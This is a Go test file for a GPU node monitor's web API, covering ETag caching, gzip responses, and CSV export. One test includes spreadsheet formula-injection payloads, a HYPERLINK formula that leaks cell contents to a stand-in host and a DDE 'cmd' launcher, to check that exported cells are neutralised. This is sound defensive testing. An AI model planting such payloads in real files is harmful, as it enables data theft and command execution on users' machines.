package web

import (
	"bytes"
	"compress/gzip"
	"encoding/csv"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/gensyn-monitor/gensyn-monitor/internal/node"
)

// fleet is nodes as a fleet has them: alike, but for what differs.
func fleet(n int) []node.Node {
	all := make([]node.Node, n)
	for i := range all {
		all[i] = node.Node{
			ID: fmt.Sprintf("gpu-%05d-gensyn", i), IP: fmt.Sprintf("10.%d.%d.%d", i>>14&255, i>>7&127, i*7&255),
			Meta: fmt.Sprintf("rack %d", i/40), State: node.Up, Told: node.Up,
			Since: ago(time.Duration(i) * time.Minute), Joined: ago(time.Duration(i) * 6 * time.Minute),
			Heard: ago(time.Duration(i*7919%60) * time.Second), Interval: time.Minute,
			AgentVersion: "1.2.0", OS: "linux", Arch: "amd64",
		}
	}
	return all
}

func unpack(t *testing.T, body io.Reader) string {
	t.Helper()
	z, err := gzip.NewReader(body)
	if err != nil {
		t.Fatal(err)
	}
	text, err := io.ReadAll(z)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

func TestUnchangedNodesAreNotSentAgain(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		store := newFakeStore(sample()...)
		s := newService(t, store, realTime)
		first := do(s, "GET", "/api/nodes")
		tag := first.Header().Get("ETag")
		if !strings.HasPrefix(tag, `W/"`) || first.Header().Get("Cache-Control") != "private, no-cache" {
			t.Fatalf("ETag %q, Cache-Control %q", tag, first.Header().Get("Cache-Control"))
		}
		ask := func(target, have string) int { return do(s, "GET", target, "If-None-Match", have).Code }
		time.Sleep(2 * viewTTL)
		queries := store.asked()
		w := do(s, "GET", "/api/nodes", "If-None-Match", `"other", `+tag)
		if w.Code != http.StatusNotModified || w.Body.Len() != 0 || w.Header().Get("ETag") != tag || w.Header().Get("Content-Type") != "" {
			t.Errorf("%d, %d bytes, %v", w.Code, w.Body.Len(), w.Header())
		}
		if ask("/api/nodes", strings.TrimPrefix(tag, "W/")) != http.StatusNotModified {
			t.Error("a strong tag of the same value is not taken")
		}
		if got := store.asked(); got != queries {
			t.Errorf("the nodes were read %d times to find that nothing changed", got-queries)
		}
		for _, target := range []string{"/api/nodes?q=rack", "/api/nodes?state=up", "/api/nodes?limit=1", "/api/nodes?format=csv", "/api/nodes?after=alpha"} {
			if ask(target, tag) != http.StatusOK {
				t.Errorf("%s is taken for the same as /api/nodes", target)
			}
		}
		store.change(func(f *fakeStore) { f.status.Clock.Position.Seq++ })
		time.Sleep(2 * viewTTL)
		if ask("/api/nodes", tag) != http.StatusOK {
			t.Error("a commit went unnoticed")
		}
		if again := do(s, "GET", "/api/nodes").Header().Get("ETag"); again == tag {
			t.Error("the tag is still the same")
		}
	})
}

func TestOldDataIsNeverUnchanged(t *testing.T) {
	store := newFakeStore(sample()...)
	tag := do(newService(t, store), "GET", "/api/nodes").Header().Get("ETag")
	store.status.CommittedAge = time.Minute
	w := do(newService(t, store), "GET", "/api/nodes", "If-None-Match", tag)
	if w.Code != http.StatusOK || w.Header().Get("ETag") != "" || w.Header().Get("X-Monitor-Stale") != "60" {
		t.Errorf("%d %v", w.Code, w.Header())
	}
	store.status.Term = 0
	if w := do(newService(t, store), "GET", "/api/nodes"); w.Header().Get("ETag") != "" {
		t.Error("a monitor that never ran names a tag")
	}
}

func TestManyNodesAreCompressedOnce(t *testing.T) {
	const all = worthKeeping + 2*maxAnswers
	store := newFakeStore(fleet(all)...)
	s := newService(t, store)
	plain := do(s, "GET", "/api/nodes").Body.String()
	w := do(s, "GET", "/api/nodes", "Accept-Encoding", "deflate, GZIP;q=0.5")
	if w.Header().Get("Content-Encoding") != "gzip" || w.Header().Get("Content-Length") != fmt.Sprint(w.Body.Len()) {
		t.Fatalf("%v", w.Header())
	}
	if packed := bytes.Clone(w.Body.Bytes()); unpack(t, bytes.NewReader(packed)) != plain {
		t.Error("the compressed answer is another one")
	}
	if vary := strings.Join(w.Header()["Vary"], ", "); !strings.Contains(vary, "Accept-Encoding") || !strings.Contains(vary, "Cookie") {
		t.Errorf("Vary %q", vary)
	}
	snap, err := s.view.get(t.Context())
	if err != nil || len(snap.answers.made) != 1 {
		t.Errorf("%d answers kept, %v", len(snap.answers.made), err)
	}
	// Whatever clients ask for, few answers are kept, and each is the right one.
	for i := range 2 * maxAnswers {
		target := fmt.Sprintf("/api/nodes?q=gpu&limit=%d", all-i)
		w := do(s, "GET", target, "Accept-Encoding", "gzip")
		if got := strings.Count(unpack(t, w.Body), "node_id"); got != all-i {
			t.Errorf("%s: %d nodes", target, got)
		}
	}
	if len(snap.answers.made) > maxAnswers {
		t.Errorf("%d answers kept", len(snap.answers.made))
	}
	for _, no := range []string{"", "identity", "br"} {
		if got := do(s, "GET", "/api/nodes", "Accept-Encoding", no); got.Header().Get("Content-Encoding") != "" || got.Body.String() != plain {
			t.Errorf("Accept-Encoding %q: %q", no, got.Header().Get("Content-Encoding"))
		}
	}
	if w := do(s, "HEAD", "/api/nodes", "Accept-Encoding", "gzip"); w.Body.Len() != 0 || w.Header().Get("Content-Encoding") != "gzip" {
		t.Errorf("HEAD: %d bytes, %v", w.Body.Len(), w.Header())
	}
}

func TestAcceptsGzip(t *testing.T) {
	for text, want := range map[string]bool{
		"": false, "gzip": true, "br, gzip": true, "GZIP ; q=1": true, "gzip;q=0.001": true, "gzip;q=0": false, "gzip; q=0.0": false,
		"gzip;q=x": false, "x-gzip": false, "identity": false,
	} {
		r, _ := http.NewRequest("GET", "/", nil)
		r.Header.Set("Accept-Encoding", text)
		if got := acceptsGzip(r); got != want {
			t.Errorf("%q: %v", text, got)
		}
	}
}

func readCSV(t *testing.T, text string) (rows []map[string]string) {
	t.Helper()
	all, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil || len(all) == 0 {
		t.Fatalf("%v in\n%s", err, text)
	}
	for _, cells := range all[1:] {
		row := map[string]string{}
		for i, name := range all[0] {
			row[name] = cells[i]
		}
		rows = append(rows, row)
	}
	return rows
}

func TestNodesAsCSV(t *testing.T) {
	nodes := sample()
	nodes[0].Workload = `{"round":39512,"peer_name":"jagged spotted mandrill","phase":"training"}`
	nodes[0].Metrics = `{"gpus":[{"name":"NVIDIA GeForce RTX 4090"}]}`
	s := newService(t, newFakeStore(nodes...))
	w := do(s, "GET", "/api/nodes?state=up,down", "Accept", "text/csv")
	wantStatus(t, w, 200)
	if got := w.Header().Get("Content-Type"); !strings.HasPrefix(got, "text/csv") {
		t.Errorf("Content-Type %q", got)
	}
	rows := readCSV(t, w.Body.String())
	if len(rows) != 2 || rows[0]["node_id"] != "alpha" || rows[1]["node_id"] != "bravo" {
		t.Fatalf("%v", rows)
	}
	for name, want := range map[string]string{
		"ip": "10.0.0.1", "state": "up", "since": "2026-03-01T11:00:00Z", "last_seen": "2026-03-01T11:59:48Z", "age_sec": "12",
		"computed": "UP", "last_state": "UP", "meta": "rack 1", "threshold_sec": "180", "interval_sec": "60", "agent_version": "1.2.0",
		"os": "linux", "arch": "amd64", "round": "39512", "peer_name": "jagged spotted mandrill", "gpu": "RTX 4090", "phase": "training",
	} {
		if rows[0][name] != want {
			t.Errorf("%s is %q, want %q", name, rows[0][name], want)
		}
	}
	if rows[1]["name"] != "Big <one>" || rows[1]["reason"] != "port_closed_3000" || rows[1]["computed"] != "DOWN" {
		t.Errorf("%v", rows[1])
	}
	w = do(s, "GET", "/api/nodes?format=csv&limit=2", "Accept", "text/html")
	if text := w.Body.String(); !strings.HasPrefix(text, "\ufeffnode_id,name,ip,") || !strings.Contains(text, "\r\n") ||
		w.Header().Get("Content-Disposition") != `attachment; filename="nodes.csv"` || !strings.Contains(w.Header().Get("Link"), "format=csv") {
		t.Errorf("%v\n%s", w.Header(), text)
	}
	if w := do(s, "HEAD", "/api/nodes?format=csv"); w.Body.Len() != 0 || !strings.HasPrefix(w.Header().Get("Content-Type"), "text/csv") {
		t.Errorf("HEAD: %v", w.Header())
	}
	wantDetail(t, do(s, "GET", "/api/nodes?format=xml"), http.StatusBadRequest, "format: must be json or csv")
	for accept, want := range map[string]string{"*/*": "application/json", "application/json, text/csv": "application/json", "": "application/json"} {
		if got := do(s, "GET", "/api/nodes", "Accept", accept).Header().Get("Content-Type"); got != want {
			t.Errorf("Accept %q: %q", accept, got)
		}
	}
}

func TestCSVHoldsNoFormulas(t *testing.T) {
	evil := []string{`=HYPERLINK("http://x/?"&A1)`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"}
	var nodes []node.Node
	for i, text := range evil {
		nodes = append(nodes, node.Node{ID: fmt.Sprint(text, i), Name: text, IP: text, Meta: text, Reason: text, Evidence: text,
			State: node.Down, AgentVersion: text, OS: text, Arch: text, Workload: fmt.Sprintf(`{"peer_name":%q,"phase":%q}`, text, text),
			Metrics: fmt.Sprintf(`{"gpus":[{"name":%q}]}`, text)})
	}
	s := newService(t, newFakeStore(nodes...))
	rows := readCSV(t, do(s, "GET", "/api/nodes", "Accept", "text/csv").Body.String())
	if len(rows) != len(evil) {
		t.Fatalf("%d rows", len(rows))
	}
	for _, row := range rows {
		for name, text := range row {
			if text != "" && strings.ContainsRune("=+-@\t\r", rune(text[0])) {
				t.Errorf("%s is %q", name, text)
			}
		}
	}
}

// A spreadsheet takes none of these for formulas: not at the beginning of a cell, and not behind what it takes for the end of
// one where cells end at semicolons.
func TestCellsAreNoFormulas(t *testing.T) {
	for text, want := range map[string]string{
		"": "", "rig-1": "rig-1", "dc=home, gpu=4090": "dc=home, gpu=4090", "a;b=c": "a;b=c", "it's": "it's", "нода": "нода",
		"=1+1": "'=1+1", "+1": "'+1", "-1+1": "'-1+1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t'=1", "\rx": "'\rx", "＝1": "'＝1",
		"x;=1+1": "x;'=1+1", "x;;@A1;-2": "x;;'@A1;'-2", `x;"=1+1"`: `x;'"=1+1"`, `"=1+1`: `'"=1+1`, "a\n=1": "a\n'=1",
	} {
		if got := cell(text); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

// Nobody looks at a column of addresses that they may not see.
func TestThereIsNoColumnWithoutAddresses(t *testing.T) {
	s := newService(t, newFakeStore(node.Node{ID: "a", State: node.Up, IP: "10.0.0.1", Heard: ago(0)}), func(o *Options) {
		o.PublicView, o.Username, o.Password = true, testUser, testHash
	})
	if body := do(s, "GET", "/").Body.String(); strings.Contains(body, ">IP<") || strings.Contains(body, `class="ip"`) {
		t.Error("everybody sees an empty column")
	}
	wantText(t, do(s, "GET", "/", "Authorization", basic(testUser, testPassword)), ">IP<", `<td role="cell" class="ip" data-label="IP"><bdi>10.0.0.1</bdi></td>`)
}
